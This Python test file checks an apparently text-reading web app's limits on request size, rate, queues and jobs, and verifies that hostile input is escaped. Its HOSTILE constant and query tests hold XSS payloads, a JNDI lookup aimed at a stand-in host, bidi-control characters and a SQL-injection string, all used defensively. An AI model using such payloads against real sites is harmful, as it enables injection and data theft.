"""How much, how often, how slow: what a client may do to the server, and what hostile text may do to a page."""

from __future__ import annotations

import asyncio
import gc
import gzip
import io
import threading
import time
import weakref
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from starlette.requests import HTTPConnection
from starlette.testclient import TestClient

from quoth.data import Article, Record
from quoth.store.base import Store
from quoth.web import create_app
from quoth.web.faults import WebFault
from quoth.web.limits import BodyLimit, RateLimiter, client_of
from quoth.web.options import Rate, WebOptions
from quoth.web.reading import Upload, upload_lane
from quoth.web.render import refuse
from quoth.web.security import Guard, Keys
from quoth.web.shelf import Reading, Shelf
from quoth.web.work import Job, Workers
from tests.factories import record
from tests.web.conftest import REPORT, send

Make = Callable[..., TestClient]


def test_a_request_that_is_too_large_is_refused(make: Make) -> None:
    browser = make(max_body_bytes=10_000)
    assert send(browser, "/read", {"text": "x" * 20_000}).status_code == 413
    answer = browser.post("/api/read", json={"text": "x" * 20_000})
    assert answer.status_code == 413
    assert answer.json()["error"]["code"] == "too-large"


def test_a_body_without_a_stated_length_is_counted(make: Make) -> None:
    browser = make(max_body_bytes=10_000)
    answer = browser.post(
        "/api/read", content=(b"x" * 1000 for _ in range(20)), headers={"content-type": "application/json"}
    )
    assert answer.status_code == 413


def test_too_many_files_are_refused(make: Make) -> None:
    files = [("files", (f"{n}.txt", b"Ann said: no")) for n in range(60)]
    assert send(make(), "/read", {}, files=files).status_code in (400, 413)


def test_a_text_that_is_too_long_is_refused_with_the_way_out(make: Make) -> None:
    page = send(make(max_characters=100), "/read", {"text": REPORT})
    assert page.status_code == 422
    assert "quoth read" in page.text


def test_a_request_that_is_broken_off_is_answered_in_the_one_shape() -> None:
    sent: list[Any] = []

    async def never(*_: Any) -> Any:
        await asyncio.sleep(60)

    async def send(message: Any) -> None:
        sent.append(message)

    async def main() -> None:
        options = WebOptions()
        guard = Guard(never, options=options, keys=Keys(options), limiter=RateLimiter(), refuse=refuse)
        scope = {"type": "http", "method": "GET", "path": "/api/search", "query_string": b"", "scheme": "http"}
        asked = asyncio.ensure_future(guard({**scope, "headers": [(b"host", b"localhost")]}, never, send))
        await asyncio.sleep(0.01)
        asked.cancel()
        await asked

    asyncio.run(main())
    assert sent[0]["status"] == 503
    assert b'"stopping"' in sent[1]["body"]


def test_a_slow_request_is_given_up() -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        await receive()

    async def never(*message: Any) -> Any:
        await asyncio.sleep(10)

    limit = BodyLimit(app, max_bytes=10, seconds=0.05)
    with pytest.raises(WebFault) as raised:
        asyncio.run(limit({"type": "http", "path": "/", "headers": []}, never, never))
    assert raised.value.status == 408


def test_costly_calls_are_counted_for_each_client(make: Make) -> None:
    browser = make(reading=Rate(2, 1))
    codes = [browser.post("/api/read", json={"text": REPORT}).status_code for _ in range(3)]
    assert codes == [200, 200, 429]
    last = browser.post("/api/read", json={"text": REPORT})
    assert int(last.headers["retry-after"]) > 0
    assert browser.get("/api/search").status_code == 200


def test_tokens_come_back_with_time() -> None:
    now = [0.0]
    limiter = RateLimiter(lambda: now[0])
    rate = Rate(1, 60)
    limiter.spend("a", "x", rate)
    limiter.spend("b", "x", rate)
    with pytest.raises(WebFault):
        limiter.spend("a", "x", rate)
    now[0] = 1.1
    limiter.spend("a", "x", rate)


def test_what_waits_is_bounded() -> None:
    async def walk() -> None:
        workers = Workers(WebOptions(read_threads=1, max_waiting=1))
        hold = threading.Event()
        first = asyncio.ensure_future(workers.call("read", hold.wait))
        second = asyncio.ensure_future(workers.call("read", hold.wait))
        await asyncio.sleep(0.05)
        with pytest.raises(WebFault) as raised:
            await workers.call("read", hold.wait)
        assert raised.value.status == 503
        assert await workers.call("store", lambda: 7) == 7  # other lanes go on
        hold.set()
        await asyncio.gather(first, second)
        assert await workers.call("read", lambda: 8) == 8
        workers.close()

    asyncio.run(walk())


def test_a_job_stops_at_its_next_step() -> None:
    async def walk() -> Job:
        workers = Workers(WebOptions())

        def work(job: Job) -> str:
            for step in range(1000):
                job.step("counting", step)
                time.sleep(0.005)
            return "/"

        job = await workers.start("count", work)
        await asyncio.sleep(0.05)
        job.stop()
        await asyncio.to_thread(job.ended.wait, 5)
        workers.close()
        return job

    job = asyncio.run(walk())
    assert job.state == "stopped"
    assert 0 < job.done < 1000


def zipped(text: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", text)
    return packed.getvalue()


FEED = b'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title></channel></rss>'


@pytest.mark.parametrize(
    ("files", "lane"),
    [
        ([("a.txt", REPORT.encode())], "read"),
        ([("a.html", b"<html><p>Ann Lee said: no"), ("b.txt", b"x" * 39_000)], "read"),
        ([("a.txt", b"x" * 39_000), ("b.txt", b"x" * 39_000)], "long"),
        ([("a.txt", b"Ann Lee said: no"), ("b.zip", zipped(REPORT))], "long"),
        ([("a.txt", zipped(REPORT))], "long"),
        ([("a.txt.gz", gzip.compress(REPORT.encode()))], "long"),
        ([("feed.xml", FEED), ("b.zip", zipped(REPORT))], "fetch"),
        ([("feed.json", b'{\n"version": "https://jsonfeed.org/version/1.1", "items": []}')], "fetch"),
        ([("a.json", b'{"text": "Ann Lee said: no"}')], "read"),
    ],
)
def test_uploads_that_may_take_long_or_wait_hold_up_no_short_text(files: list[Upload], lane: str) -> None:
    assert upload_lane(files) == lane


def test_a_small_archive_of_long_texts_is_read_where_long_texts_are(store: Store) -> None:
    where: list[str] = []

    def read(article: Article) -> Record:
        where.append(threading.current_thread().name)
        return Record(article)

    app = create_app(store, options=WebOptions(hosts=("testserver",)), read=read)
    with TestClient(app) as browser:
        for name, data in (("a.zip", zipped("Ann Lee said: no. " * 9_000)), ("a.txt", b"Ann Lee said: no.")):
            send(browser, "/read", {}, files=[("files", (name, data))])
    assert [name.rpartition("_")[0] for name in where] == ["quoth-long", "quoth-read"]


def test_a_feed_that_is_uploaded_counts_as_an_address(make: Make) -> None:
    browser = make(fetching=Rate(1, 1))
    codes = [send(browser, "/read", {}, files=[("files", ("feed.xml", FEED))]).status_code for _ in range(2)]
    assert codes == [422, 429]


def test_work_that_is_refused_or_over_makes_way_and_none_that_goes_on(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("quoth.web.work._JOBS", 3)

    async def walk() -> None:
        workers = Workers(WebOptions(long_threads=1, max_waiting=0))
        hold = threading.Event()
        going = await workers.start("goes on", lambda job: str(hold.wait(10)))
        for _ in range(5):
            with pytest.raises(WebFault, match="too much"):
                await workers.start("refused", lambda job: "")
        short = [await workers.start("short", lambda job: "/", lane="read", wait_s=10) for _ in range(5)]
        assert workers.job(going.id) is going and not going.over
        assert [workers.job(job.id) for job in short] == [None, None, None, *short[3:]]
        hold.set()
        while not going.over:
            await asyncio.sleep(0.01)
        assert going.state == "done"
        workers.close()

    asyncio.run(walk())


def test_a_job_that_takes_too_long_is_stopped() -> None:
    def count(job: Job) -> str:
        job.step()
        return "/"

    async def walk() -> Job:
        workers = Workers(WebOptions(work_s=0.0))
        job = await workers.start("count", count, wait_s=5)
        workers.close()
        return job

    job = asyncio.run(walk())
    assert job.state == "failed"
    assert job.fault is not None
    assert job.fault.code == "too-long"


def test_the_shelf_forgets_the_oldest_and_the_old() -> None:
    now = [0.0]
    shelf = Shelf(2, 10_000_000, 1.0, lambda: now[0])
    first, second = shelf.put(Reading((record(),))), shelf.put(Reading(()))
    assert shelf.get(first)
    third = shelf.put(Reading(()))
    assert shelf.get(second) is None
    assert shelf.get(third) is not None
    now[0] = 61.0
    assert shelf.get(third) is None


def test_what_is_past_its_time_is_forgotten_when_more_is_read() -> None:
    now = [0.0]
    shelf = Shelf(9, 10_000_000, 1.0, lambda: now[0])

    class Draft(Reading):
        """One that can be looked after without being held."""

    draft = weakref.ref(held := Draft((record(),)))
    shelf.put(held)
    del held
    assert draft() is not None
    now[0] = 61.0
    shelf.put(Reading(()))
    gc.collect()
    assert draft() is None


@pytest.mark.parametrize(("one", "other", "same"), [
    ("2001:db8::1", "2001:db8:0:0:ffff::2", True), ("2001:db8::1", "2001:db8:0:1::1", False),
    ("fe80::1%eth0", "fe80::2", True), ("::ffff:192.0.2.1", "192.0.2.1", True), ("::ffff:192.0.2.1", "::1", False),
    ("192.0.2.1", "192.0.2.2", False), ("a-socket", "another", False),
])  # fmt: skip
def test_a_network_of_ipv6_is_one_client(one: str, other: str, same: bool) -> None:
    clients = [client_of(HTTPConnection({"type": "http", "client": (host, 1)})) for host in (one, other)]
    assert (clients[0] == clients[1]) is same


HOSTILE = (
    "<script>alert(1)</script> <svg onload=alert(2)> <img src=x onerror=alert(3)>\n\n"
    "Jane </mark></p><script>alert(4)</script> Roe said: “</title><script>alert(5)</script>”\n\n"
    "Ann Lee said: “\u202egnirts desrever\u202c and \u2066isolated\u2069 \x00 \x1b[31m text”\n\n"
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.test/}"
)


def test_markup_in_a_text_is_only_text(browser: TestClient) -> None:
    page = send(browser, "/read", {"text": HOSTILE, "title": "<b>bold</b>", "outlet": '"><script>'})
    assert page.status_code == 200
    assert "<script>" not in page.text
    assert "<svg onload" not in page.text
    assert "<img" not in page.text
    assert "{{ 7 * 7 }}" in page.text


def test_characters_that_turn_text_around_are_shown_not_obeyed(browser: TestClient) -> None:
    page = send(browser, "/read", {"text": HOSTILE}).text
    for character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00\x1b":
        assert character not in page
    assert "U+202E" in page


@pytest.mark.parametrize("path", ["/search?q=", "/person?name=", "/check?claim=", "/audit?by=", "/family?quote="])
def test_hostile_queries_are_shown_harmlessly(browser: TestClient, path: str) -> None:
    for words in (
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%E2%80%AE%00",
        "%ED%A0%80",
        "%22%20onfocus%3Dalert(1)",
        "%27%20OR%201=1--",
    ):
        page = browser.get(path + words)
        assert page.status_code < 500, (path, words)
        assert "<script>alert" not in page.text
        assert '" onfocus' not in page.text
        assert "\u202e" not in page.text


@pytest.mark.timeout(120)  # a second or two; a reader that took the square of the depth, for ever
def test_a_million_nested_tags_are_read_or_refused(browser: TestClient) -> None:
    page = b"<html><body>" + b"<div>" * 1_000_000 + b"Ann Lee said: no"
    answer = send(browser, "/read", {}, files=[("files", ("deep.html", page))])
    assert answer.status_code in (200, 422)


def test_half_a_surrogate_pair_breaks_nothing(browser: TestClient) -> None:
    answer = browser.post(
        "/api/read", content=b'{"text": "Ann Lee said: \\"\\ud800 no\\""}', headers={"content-type": "application/json"}
    )
    assert answer.status_code in (200, 422)
    assert browser.get("/api/search?q=%ED%A0%80").status_code in (200, 422)
